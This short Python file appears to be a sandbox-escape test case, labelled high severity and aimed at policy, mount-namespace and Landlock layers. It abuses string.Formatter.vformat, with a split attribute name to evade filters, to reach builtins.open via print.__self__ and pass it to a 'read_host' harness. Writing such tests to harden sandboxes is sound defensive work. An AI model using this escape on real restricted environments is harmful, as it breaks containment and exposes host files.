# technique: vformat converts the object by a method of the program's own
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import string

found = []

class Keeper(string.Formatter):
    def convert_field(self, value, conversion):
        found.append(value)
        return ""

def trick():
    Keeper().vformat("{x.__se" + "lf__.open!s}", (), {"x": print})
    return found[0]

read_host(trick)
